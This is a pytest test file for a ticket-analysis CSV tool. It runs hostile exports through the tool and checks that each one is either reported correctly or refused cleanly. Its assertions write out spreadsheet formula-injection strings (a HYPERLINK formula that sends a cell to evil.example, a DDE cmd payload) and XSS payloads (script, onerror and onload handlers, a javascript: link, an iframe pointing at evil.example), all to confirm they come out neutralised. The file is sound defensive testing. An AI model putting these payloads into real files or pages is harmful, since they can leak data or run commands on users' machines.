"""Hostile exports through both entry points: a correct report or one clear line.

Every file of ``tests/fixtures/hostile/`` (plus a 5 MB field generated at test
time) has a hand-computed expected outcome in :data:`MANIFEST`:

- :class:`Accepted`: exit 0, ``records_read == rows_valid + rows_rejected`` with
  the exact counts, issue codes and rejected line numbers worked out by hand from
  the file (each file's rows are commented in the generator notes below), and a
  ``rejected_rows.csv`` a spreadsheet cannot run: no cell starts with
  ``= + - @``, tab or CR;
- :class:`Refused`: exit 2, exactly one ``ERROR:`` line holding the expected
  fragment, no traceback, and no output folder created.

``python -m ticket_analysis`` runs on every file in its own process.
``run_report.py`` (a real papermill kernel, ~5-8 s a run) runs on a
representative subset (:data:`REPORT_SUBSET`): input errors are only detected
inside the kernel, so they cost a kernel start each. All runs of the module
start together in a pool of two workers (the machine has two cores).

The files, line by line (header = line 1):

- ``bom_crlf``: UTF-8 BOM, CRLF, 3 valid rows.
- ``cp1252_excel``: é, ü, €, “ ” and – in cp1252 bytes, 3 valid rows.
- ``renamed_reordered_headers``: ``STATUS, Ticket ID ,Priority,Created-Date,...``
  in another order plus an extra ``Tags`` column, 3 valid rows.
- ``quoted_newlines``: T1 spans lines 2-4 (LF inside quotes), T2 spans 5-7 (CRLF
  inside two quoted fields), T3 on 8, T4 ``Urgent`` on 9-10 (rejected), T5 on 11.
- ``formula_injection``: line 2 ``Urgent`` with formulas in four columns; line 3
  ``=Open`` with a tab-, a ``-``-, an ``@``-led cell and a quoted lone CR (so it
  spans lines 3-4); line 5 ``P1``; line 6 a 5-field record led by ``=``; line 7
  valid (its ``=SUM`` subject is kept: the reports are not spreadsheets).
- ``script_payloads``: 8 valid rows whose text columns hold script, event
  handler, ``javascript:`` link, broken-table, SVG, Markdown-link and
  style/iframe payloads; line 10 has status ``<b>Pending</b>`` (rejected).
- ``every_row_invalid``: Urgent, Pending, 2024-02-30, empty ticket_id, 8 fields,
  and ``,,,,,,,,`` (five empty required fields: 5 occurrences).
- ``ragged_rows``: 10, 7, 1 and 13 fields on lines 3, 4, 5, 7; lines 2, 6, 8 ok.
- ``enum_variants``: high, CRITICAL + in-progress (one occurrence), `` low `` +
  IN_PROGRESS, ``in   progress``, closed, ``medium-`` + ``open_`` normalised (6);
  Urgent, P1 (lines 7, 8), Pending (9), Hi + Done (10, both codes) rejected.
- ``impossible_and_non_iso_dates``: created 2024-02-30, 2023-02-29, 12/01/2024,
  2024-1-5, 20240105, 2024-13-01, an ISO datetime (lines 2-8) and Arabic-Indic
  digits (15) are invalid, line 13 has none; 2024-02-29 is valid; line 10's
  resolved 2024-02-30 gives invalid_resolved_date + missing_resolved_date, line
  11 resolves before creation, line 12 is Open with a date; `` 2024-03-04 `` is
  trimmed and valid.
- ``duplicate_ids``: T1 (2) kept, T1 (3) duplicate, T2 (4) rejected for its
  priority so T2 (5) is the first valid one, ``t1`` (6) is another id, `` T1 ``
  (7) trims to T1, T2 (8) duplicates line 5.
- ``blank_lines``: empty, space-only and tab-only lines between T1 (3), T2 (6),
  T3 (9) and the Urgent T4 (12); blank lines are not records.
- ``unterminated_quote``: the quote opened on line 3 never closes: that record
  swallows lines 4-5 and is one malformed record whose raw text keeps them.
- ``unicode_oddities``: emoji, RTL override, ``T1`` + zero-width space (another
  id), U+2028 and a combining accent are data; an NBSP-only customer (line 5)
  trims to empty.
- ``missing_optional_columns``: only the five required columns: subject empty
  (2 missing_subject), the Closed T2 has no resolved date.
- ``header_only``, ``header_only_no_newline``, ``quoted_header_names``,
  ``trailing_empty_columns`` (Excel's ``,,``), ``mixed_line_endings_no_final_newline``.
- Refused: ``empty``, ``whitespace_only``, ``bom_only``, ``missing_required_column``
  (no status, created_date), ``binary_png``, ``xlsx_renamed``, ``nul_bytes`` (NUL
  at byte 141 = 97 + 35 + 9 on line 3), ``utf16`` (BOM), ``utf16be_no_bom``,
  ``semicolon_delimited``, ``tab_delimited``, ``html_login_page``,
  ``title_line_before_header``, ``duplicate_header_columns``.
- ``cr_only_line_endings`` and ``quoted_blank_line``: known bugs, see the
  ``xfail`` tests at the end.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import subprocess
import sys
from collections.abc import Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from expected_files import DIRECT_SET, NOTEBOOK_SET

from ticket_analysis.ingest.reading import read_records
from ticket_analysis.ingest.tables import REJECTED_COLUMNS
from ticket_analysis.outputs import FORMULA_PREFIXES

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ROOT / "tests" / "fixtures" / "hostile"
HUGE = "huge_field_5mb.csv"  # generated at test time (see huge_field_csv)
#: The direct run's set; manifest.json (written last) names the set's files.
REPORT_FILES = set(DIRECT_SET)
NOTEBOOK_FILES = set(NOTEBOOK_SET)


@dataclass(frozen=True)
class Accepted:
    """Exit 0 with exactly these counts.

    Attributes:
        records: records_read.
        valid: rows_valid.
        rejected: rows_rejected.
        issues: Every non-zero issue count.
        rejected_lines: line_number of each row of rejected_rows.csv, in order.
        warnings: rows_with_warnings.
        encoding: source.encoding.
    """

    records: int
    valid: int
    rejected: int
    issues: dict[str, int] = field(default_factory=dict)
    rejected_lines: tuple[int, ...] = ()
    warnings: int = 0
    encoding: str = "utf-8"


@dataclass(frozen=True)
class Refused:
    """Exit 2 with one ERROR line containing ``fragment``, nothing written."""

    fragment: str


MISSING_ALL = (
    "is missing required column(s): ticket_id, customer_id, priority, status, "
    "created_date. Columns found: "
)
DELIMITER_HINT = "The header looks delimited by ';', tab or '|': export with commas."

MANIFEST: dict[str, Accepted | Refused] = {
    "bom_crlf.csv": Accepted(3, 3, 0, encoding="utf-8-sig"),
    "cp1252_excel.csv": Accepted(3, 3, 0, encoding="cp1252"),
    "renamed_reordered_headers.csv": Accepted(3, 3, 0),
    "header_only.csv": Accepted(0, 0, 0),
    "header_only_no_newline.csv": Accepted(0, 0, 0),
    "quoted_header_names.csv": Accepted(1, 1, 0),
    "trailing_empty_columns.csv": Accepted(2, 2, 0),
    "mixed_line_endings_no_final_newline.csv": Accepted(3, 3, 0),
    "missing_optional_columns.csv": Accepted(
        2, 2, 0, {"missing_subject": 2, "missing_resolved_date": 1}, warnings=2
    ),
    "quoted_newlines.csv": Accepted(5, 4, 1, {"invalid_priority": 1}, (9,)),
    "formula_injection.csv": Accepted(
        5,
        1,
        4,
        {"malformed_record": 1, "invalid_priority": 2, "invalid_status": 1},
        (2, 3, 5, 6),
    ),
    "script_payloads.csv": Accepted(9, 8, 1, {"invalid_status": 1}, (10,)),
    "every_row_invalid.csv": Accepted(
        6,
        0,
        6,
        {
            "malformed_record": 1,
            "missing_required_field": 6,
            "invalid_created_date": 1,
            "invalid_priority": 1,
            "invalid_status": 1,
        },
        (2, 3, 4, 5, 6, 7),
    ),
    "ragged_rows.csv": Accepted(7, 3, 4, {"malformed_record": 4}, (3, 4, 5, 7)),
    "enum_variants.csv": Accepted(
        11,
        7,
        4,
        {"invalid_priority": 3, "invalid_status": 2, "normalized_value": 6},
        (7, 8, 9, 10),
        warnings=6,
    ),
    "impossible_and_non_iso_dates.csv": Accepted(
        14,
        5,
        9,
        {
            "missing_required_field": 1,
            "invalid_created_date": 8,
            "invalid_resolved_date": 1,
            "resolved_before_created": 1,
            "missing_resolved_date": 1,
            "resolved_date_on_open_ticket": 1,
        },
        (2, 3, 4, 5, 6, 7, 8, 13, 15),
        warnings=3,
    ),
    "duplicate_ids.csv": Accepted(
        7, 3, 4, {"invalid_priority": 1, "duplicate_ticket_id": 3}, (3, 4, 7, 8)
    ),
    "blank_lines.csv": Accepted(4, 3, 1, {"invalid_priority": 1}, (12,)),
    "unterminated_quote.csv": Accepted(2, 1, 1, {"malformed_record": 1}, (3,)),
    "unicode_oddities.csv": Accepted(4, 3, 1, {"missing_required_field": 1}, (5,)),
    # T1's 5 MiB description holds 169,125 line breaks: T2 is on 169,128, T3 after.
    HUGE: Accepted(3, 2, 1, {"invalid_priority": 1}, (169_129,)),
    "empty.csv": Refused(
        "is empty (0 bytes): export the tickets again, with a header row"
    ),
    "whitespace_only.csv": Refused(
        "contains only blank lines: export the tickets again, with a header row"
    ),
    "bom_only.csv": Refused(MISSING_ALL + "none."),
    "missing_required_column.csv": Refused(
        "is missing required column(s): status, created_date. Columns found: "
        "'ticket_id', 'customer_id', 'subject', 'description', 'priority', "
        "'resolved_date', 'assigned_to'."
    ),
    "binary_png.csv": Refused(
        "is not a text CSV file: it contains NUL bytes (first on line 3, byte 8); "
        "export the tickets as CSV UTF-8 and run again"
    ),
    "xlsx_renamed.csv": Refused(
        "is not a text CSV file: it contains NUL bytes (first on line 1, byte 5)"
    ),
    "nul_bytes.csv": Refused("it contains NUL bytes (first on line 3, byte 141)"),
    "utf16.csv": Refused(
        "is UTF-16 text: save it as 'CSV UTF-8 (comma delimited)' and run again"
    ),
    "utf16be_no_bom.csv": Refused("it contains NUL bytes (first on line 1, byte 0)"),
    "semicolon_delimited.csv": Refused(DELIMITER_HINT),
    "tab_delimited.csv": Refused(DELIMITER_HINT),
    "html_login_page.csv": Refused(MISSING_ALL + "'<!DOCTYPE html>'."),
    "title_line_before_header.csv": Refused(
        MISSING_ALL + "'Ticket export 2024-03-31'."
    ),
    "duplicate_header_columns.csv": Refused(
        "columns 'ticket_id' and 'Ticket ID' both mean ticket_id; "
        "keep one of them and run again"
    ),
}

#: Files with a dedicated test of their own below, outside the manifest.
OWN_TESTS = {"cr_only_line_endings.csv", "quoted_blank_line.csv"}

#: Files also run through run_report.py, with the flags used (HTML is cheap next
#: to the kernel start, so the empty and all-rejected reports render their charts).
#: script_payloads.csv goes through run_report once, in the ``payload_report``
#: fixture shared with the browser test.
REPORT_SUBSET: dict[str, tuple[str, ...]] = {
    "header_only.csv": (),
    "every_row_invalid.csv": (),
    "cp1252_excel.csv": ("--no-html",),
    "formula_injection.csv": ("--no-html",),
    "empty.csv": (),
    "binary_png.csv": (),
    "missing_required_column.csv": (),
    "utf16.csv": (),
}

CLI_CASES = sorted(MANIFEST)
REPORT_CASES = sorted(REPORT_SUBSET)


# --- running everything once, two processes at a time ----------------------------


def write_huge_field_csv(path: Path) -> str:
    """Write a file whose record T1 has a 5 MiB quoted description.

    The description repeats ``Lorem "ipsum", dolor<LF>sit amet; `` (quotes,
    commas and line breaks inside the field); T3's subject is the same 5 MiB
    text led by ``=`` and its priority is Urgent, so the whole field must reach
    rejected_rows.csv, neutralised.

    Returns:
        T3's subject as written.
    """
    big = ('Lorem "ipsum", dolor\nsit amet; ' * 174_763)[: 5 * 1024 * 1024]
    assert big.count("\n") == 169_125

    def quoted(text: str) -> str:
        return '"' + text.replace('"', '""') + '"'

    subject = "=Huge subject " + big
    path.write_text(
        "ticket_id,customer_id,subject,description,priority,status,created_date,"
        "resolved_date,assigned_to\n"
        f"T1,C1,Huge description,{quoted(big)},High,Open,2024-03-01,,A\n"
        "T2,C1,Normal,d,Low,Resolved,2024-03-02,2024-03-03,B\n"
        f"T3,C2,{quoted(subject)},d,Urgent,Open,2024-03-03,,A\n",
        encoding="utf-8",
        newline="",
    )
    return subject


@dataclass
class Runs:
    """Every run of the module, started at once; each test waits for its own."""

    box: Any
    huge_subject: str
    jobs: dict[tuple[str, str], Future[subprocess.CompletedProcess[str]]]

    def result(self, entry: str, name: str) -> subprocess.CompletedProcess[str]:
        """Return the finished run of ``entry`` ("cli" or "report") on ``name``."""
        return self.jobs[(entry, name)].result()

    def out(self, entry: str, name: str) -> Path:
        """Return the output folder of a run."""
        return self.box.home / entry / name

    def source(self, name: str) -> Path:
        """Return the input file of a case."""
        return self.box.home / HUGE if name == HUGE else HOSTILE / name


@pytest.fixture(scope="module")
def runs(module_sandbox: Any) -> Iterator[Runs]:
    """Start every CLI and run_report run of this module in a 2-worker pool."""
    box = module_sandbox
    subject = write_huge_field_csv(box.home / HUGE)
    state = Runs(box, subject, {})
    pool = ThreadPoolExecutor(max_workers=2)
    # the slow kernel runs first, so the quick CLI runs fill the gaps
    for name in REPORT_CASES:
        args = ("--input", str(state.source(name)))
        args += ("--output-dir", str(state.out("report", name)))
        state.jobs[("report", name)] = pool.submit(
            box.report, *args, *REPORT_SUBSET[name]
        )
    for name in CLI_CASES:
        args = ("--input", str(state.source(name)))
        args += ("--output-dir", str(state.out("cli", name)))
        state.jobs[("cli", name)] = pool.submit(box.cli, *args)
    yield state
    pool.shutdown(wait=True, cancel_futures=True)


# --- checks ---------------------------------------------------------------


def read_rejected(path: Path) -> list[dict[str, str]]:
    """Parse rejected_rows.csv with the csv module (RFC 4180, CRLF)."""
    limit = csv.field_size_limit(sys.maxsize)  # the 5 MiB field
    try:
        with path.open(encoding="utf-8", newline="") as handle:
            reader = csv.DictReader(handle)
            assert tuple(reader.fieldnames or ()) == REJECTED_COLUMNS
            return list(reader)
    finally:
        csv.field_size_limit(limit)


def assert_no_formula_cells(rows: list[dict[str, str]]) -> None:
    """No cell of rejected_rows.csv starts with a character that runs a formula."""
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_PREFIXES), (column, value[:60])


def assert_accepted(
    result: subprocess.CompletedProcess[str], out: Path, expected: Accepted
) -> dict[str, Any]:
    """Exit 0, every record accounted for, rejected_rows.csv complete and inert."""
    assert result.returncode == 0, result.stderr[-2000:]
    assert "Traceback" not in result.stderr
    assert not [line for line in result.stderr.splitlines() if "ERROR" in line]
    summary: dict[str, Any] = json.loads((out / "summary.json").read_text("utf-8"))
    quality = summary["data_quality"]
    assert (
        quality["records_read"],
        quality["rows_valid"],
        quality["rows_rejected"],
        quality["rows_with_warnings"],
    ) == (expected.records, expected.valid, expected.rejected, expected.warnings)
    assert quality["records_read"] == quality["rows_valid"] + quality["rows_rejected"]
    assert {k: v for k, v in quality["issues"].items() if v} == expected.issues
    assert summary["source"]["encoding"] == expected.encoding
    assert summary["summary"]["total_tickets"] == expected.valid
    rows = read_rejected(out / "rejected_rows.csv")
    assert len(rows) == quality["rows_rejected"]
    assert tuple(int(r["line_number"]) for r in rows) == expected.rejected_lines
    assert all(r["reasons"] for r in rows), "every rejected row says why"
    assert_no_formula_cells(rows)
    assert not [p.name for p in out.iterdir() if p.name.startswith(".")], "temp file"
    return summary


def assert_refused(
    result: subprocess.CompletedProcess[str], out: Path, expected: Refused, name: str
) -> None:
    """Exit 2, one ERROR line naming the file and the problem, nothing written."""
    assert result.returncode == 2, result.stderr[-2000:]
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    errors = [line for line in lines if not line.startswith("INFO: ")]
    assert len(errors) == 1, lines
    assert errors[0].startswith("ERROR: ") and name in errors[0]
    assert expected.fragment in errors[0]
    assert not out.exists(), sorted(p.name for p in out.iterdir())


# --- the manifest through both entry points --------------------------------------


def test_manifest_covers_the_whole_corpus() -> None:
    """Every committed hostile file has an expected outcome; none is over 1 MB."""
    files = {p.name for p in HOSTILE.iterdir() if not p.name.startswith(".")}
    assert files == (set(MANIFEST) - {HUGE}) | OWN_TESTS
    assert len(files) >= 20
    assert max(p.stat().st_size for p in HOSTILE.iterdir()) < 1_000_000


@pytest.mark.parametrize("name", CLI_CASES)
def test_cli_on_hostile_file(runs: Runs, name: str) -> None:
    """``python -m ticket_analysis``: the documented outcome, never a traceback."""
    expected = MANIFEST[name]
    result, out = runs.result("cli", name), runs.out("cli", name)
    if isinstance(expected, Refused):
        assert_refused(result, out, expected, name)
        assert len(result.stderr.strip().splitlines()) == 1
        return
    assert_accepted(result, out, expected)
    assert {p.name for p in out.iterdir()} == REPORT_FILES


@pytest.mark.parametrize("name", REPORT_CASES)
def test_run_report_on_hostile_file(runs: Runs, name: str) -> None:
    """``run_report.py``: same outcome as the CLI; same rejected_rows.csv bytes."""
    expected = MANIFEST[name]
    result, out = runs.result("report", name), runs.out("report", name)
    if isinstance(expected, Refused):
        assert_refused(result, out, expected, name)
        return
    summary = assert_accepted(result, out, expected)
    html = "--no-html" not in REPORT_SUBSET[name]
    assert {p.name for p in out.iterdir()} == (
        NOTEBOOK_FILES if html else NOTEBOOK_FILES - {"report.html"}
    )
    cli_out = runs.out("cli", name)
    assert (out / "rejected_rows.csv").read_bytes() == (
        cli_out / "rejected_rows.csv"
    ).read_bytes()
    cli_summary = json.loads((cli_out / "summary.json").read_text("utf-8"))
    assert summary["data_quality"] == cli_summary["data_quality"]
    if html:
        text = (out / "report.html").read_text("utf-8")
        assert "Data quality" in text and "Traceback" not in text


def test_payload_file_through_run_report(payload_report: dict[str, Any]) -> None:
    """run_report.py on the payload file: exit 0, five files, same accounting."""
    result, out = payload_report["result"], payload_report["out"]
    assert_accepted(result, out, MANIFEST["script_payloads.csv"])  # type: ignore[arg-type]
    assert {p.name for p in out.iterdir()} == NOTEBOOK_FILES


# --- what the files hold, beyond the counts -------------------------------------


def rejected_by_line(runs: Runs, name: str) -> dict[int, dict[str, str]]:
    """Return the CLI's rejected rows of a case by line number."""
    rows = read_rejected(runs.out("cli", name) / "rejected_rows.csv")
    return {int(r["line_number"]): r for r in rows}


def test_formula_cells_are_neutralised_exactly(runs: Runs) -> None:
    """Each formula-led cell gets one leading apostrophe, the rest is kept verbatim."""
    assert runs.result("cli", "formula_injection.csv").returncode == 0
    rows = rejected_by_line(runs, "formula_injection.csv")
    assert rows[2]["ticket_id"] == (
        """'=HYPERLINK("http://evil.example/?x="&A1;"click")"""
    )
    assert rows[2]["subject"] == "'=1+1"
    assert rows[2]["description"] == "'+cmd|' /C calc'!A0"
    assert rows[2]["assigned_to"] == "'@SUM(A1:A9)"
    assert rows[3]["customer_id"] == "'-2+3"
    assert rows[3]["subject"] == "'\tTab subject"
    assert rows[3]["description"] == "'@evil"
    assert rows[3]["status"] == "'=Open"
    assert rows[3]["assigned_to"] == "'\r=CR-led"
    assert rows[5]["customer_id"] == "'+C3"
    assert rows[6]["raw_record"] == "'=ragged,row,with,too,few"
    assert rows[6]["reasons"] == "malformed_record: has 5 fields, expected 9"
    assert rows[2]["reasons"] == (
        "invalid_priority: priority 'Urgent' is not one of Low, Medium, High, Critical"
    )


def test_unterminated_quote_loses_nothing(runs: Runs) -> None:
    """The records swallowed by an unclosed quote are kept in the raw record."""
    row = rejected_by_line(runs, "unterminated_quote.csv")[3]
    assert row["reasons"] == "malformed_record: has 3 fields, expected 9"
    assert row["raw_record"] == (
        'T2,C1,"never closed,d,Low,Open,2024-03-01,,A\n'
        "T3,C1,s,d,Low,Open,2024-03-03,,A\n"
        "T4,C1,s,d,Low,Open,2024-03-04,,A"
    )


def test_huge_field_is_kept_whole(runs: Runs) -> None:
    """A 5 MiB field is read, checksummed and written back whole and neutralised."""
    out, source = runs.out("cli", HUGE), runs.source(HUGE)
    summary = json.loads((out / "summary.json").read_text("utf-8"))
    assert summary["source"]["bytes"] == source.stat().st_size
    assert (
        summary["source"]["sha256"] == hashlib.sha256(source.read_bytes()).hexdigest()
    )
    row = rejected_by_line(runs, HUGE)[169_129]
    assert row["subject"] == "'" + runs.huge_subject
    assert len(row["subject"]) == 5 * 1024 * 1024 + 15


def test_encodings_and_headers_are_understood(runs: Runs) -> None:
    """cp1252 text arrives as Unicode with a warning; renamed headers map by meaning."""
    cp1252 = runs.result("cli", "cp1252_excel.csv")
    assert (
        "WARNING: " + str(HOSTILE / "cp1252_excel.csv") + " is not valid UTF-8; "
        "reading it as Windows-1252 (Excel's default)."
    ) in cp1252.stderr
    summary = json.loads(
        (runs.out("cli", "cp1252_excel.csv") / "summary.json").read_text("utf-8")
    )
    assert summary["top_subject_words"][0] == {"word": "café", "count": 2}
    assert {a["agent"] for a in summary["agents"]} == {"Agent_Zoë", "Agent_B"}
    renamed = runs.result("cli", "renamed_reordered_headers.csv")
    assert (
        "INFO: ignoring extra columns in "
        + str(HOSTILE / "renamed_reordered_headers.csv")
        + ": Tags"
    ) in renamed.stderr
    summary = json.loads(
        (runs.out("cli", "renamed_reordered_headers.csv") / "summary.json").read_text(
            "utf-8"
        )
    )
    assert summary["status_counts"] == {
        "Open": 1,
        "In Progress": 0,
        "Resolved": 1,
        "Closed": 1,
    }
    assert summary["summary"]["unassigned_tickets"] == 1


def test_empty_and_all_rejected_reports_still_render(runs: Runs) -> None:
    """No valid row: the as-of date falls back to today and the HTML has its charts."""
    for name in ("header_only.csv", "every_row_invalid.csv"):
        html = (runs.out("report", name) / "report.html").read_text("utf-8")
        assert html.count('src="data:image/svg+xml;base64,') >= 9, name
        summary = json.loads(
            (runs.out("report", name) / "summary.json").read_text("utf-8")
        )
        assert summary["summary"]["total_tickets"] == 0
        assert summary["resolution_time_days"]["overall"]["mean"] is None


class _Tags(HTMLParser):
    """Collect start tags (escaped text is not a tag)."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.headings: list[str] = []
        self.text: list[str] = []
        self._in_heading = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag in {"h1", "h2", "h3"}:
            self._in_heading = True
            self.headings.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag in {"h1", "h2", "h3"}:
            self._in_heading = False

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self._in_heading:
            self.headings[-1] += data


def test_payloads_are_inert_text_in_the_html(payload_report: dict[str, Any]) -> None:
    """Every payload shows as escaped text; none becomes a tag, handler or link."""
    html = (payload_report["out"] / "report.html").read_text("utf-8")
    parser = _Tags()
    parser.feed(html)
    for tag, attrs in parser.tags:
        assert tag not in {"script", "iframe", "object", "embed", "svg"}, tag
        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
        for name in ("src", "href", "action", "formaction", "xlink:href"):
            value = (attrs.get(name) or "").strip()
            assert name not in attrs or value.startswith(("data:", "#")), (tag, value)
        # A data: URI is an inlined chart: its base64 text may hold any letters.
        shown = {k: v for k, v in attrs.items() if not (v or "").startswith("data:")}
        assert "xss" not in json.dumps(shown), (tag, attrs)
    assert "INJECTED-HEADING" not in "".join(parser.headings)
    assert "<script>alert(" not in html and "<svg onload" not in html
    text = "".join(parser.text)  # the document's text, entities decoded
    for payload in (
        "<script>alert('xss-script')</script>",
        "<img src=x onerror=alert('xss-img')>",
        "<svg onload=alert('xss-svg')>",
        "</td></tr></table><h1>INJECTED-HEADING</h1>",
        "<a href=\"javascript:alert('xss-link')\">click me</a>",
        '<style>body{display:none}</style><iframe src="http://evil.example/">',
    ):
        assert payload in text, payload
    rows = read_rejected(payload_report["out"] / "rejected_rows.csv")
    assert [r["status"] for r in rows] == ["<b>Pending</b>"]


# --- line-ending and blank-line edge cases -----------------------------------


def test_cr_only_line_endings_give_a_report(sandbox: Any) -> None:
    """A file with lone-CR line endings: 3 records, T2 (line 3, Urgent) rejected."""
    out = sandbox.home / "out"
    result = sandbox.cli(
        "--input", str(HOSTILE / "cr_only_line_endings.csv"), "--output-dir", str(out)
    )
    assert_accepted(
        result, out, Accepted(3, 2, 1, {"invalid_priority": 1}, rejected_lines=(3,))
    )


def test_both_parsers_count_quoted_blank_lines_alike() -> None:
    """Both parsers skip ``""`` and ``"   "`` lines as blank: 2 records, 0 malformed."""
    data = (HOSTILE / "quoted_blank_line.csv").read_bytes()
    fast = read_records(data, "quoted_blank_line.csv")
    exact = read_records(data, "quoted_blank_line.csv", exact=True)
    assert (fast.records_read, len(fast.malformed)) == (2, 0)
    assert (exact.records_read, len(exact.malformed)) == (2, 0)


def test_quoted_blank_line_is_accounted_either_way(sandbox: Any) -> None:
    """The two real tickets are valid; the quoted blank lines are not records."""
    out = sandbox.home / "out"
    result = sandbox.cli(
        "--input", str(HOSTILE / "quoted_blank_line.csv"), "--output-dir", str(out)
    )
    assert result.returncode == 0, result.stderr
    quality = json.loads((out / "summary.json").read_text("utf-8"))["data_quality"]
    assert (
        quality["records_read"],
        quality["rows_valid"],
        quality["rows_rejected"],
    ) == (
        2,
        2,
        0,
    )
    assert read_rejected(out / "rejected_rows.csv") == []


def test_run_report_tells_the_user_about_the_cp1252_fallback(runs: Runs) -> None:
    """run_report.py says on stderr that the file was read as Windows-1252."""
    result = runs.result("report", "cp1252_excel.csv")
    assert "Windows-1252" in result.stderr


@pytest.mark.parametrize(
    ("name", "named"),
    [
        ("renamed_reordered_headers.csv", ["Tags"]),
        ("missing_optional_columns.csv", ["subject", "description", "resolved_date"]),
    ],
)
def test_data_quality_section_names_ignored_and_missing_columns(
    runs: Runs, name: str, named: list[str]
) -> None:
    """The executive report's data-quality section names the columns concerned."""
    assert runs.result("cli", name).returncode == 0
    text = (runs.out("cli", name) / "executive_report.txt").read_text("utf-8")
    start = text.index("=== Data Quality ===")
    section = text[start : text.index("===", start + 20)]
    for column in named:
        assert column in section, column


def test_rejected_rows_parse_as_rfc4180(runs: Runs) -> None:
    """rejected_rows.csv is CRLF-terminated and parses to the same rows twice."""
    data = (runs.out("cli", "quoted_newlines.csv") / "rejected_rows.csv").read_bytes()
    assert data.endswith(b"\r\n") and data.count(b"\r\n") == 2
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows[1][:3] == [
        "9",
        "invalid_priority: priority 'Urgent' is not one of Low, Medium, High, Critical",
        "T4",
    ]
    assert rows[1][4] == "Urgent one\nstarts on line 9"
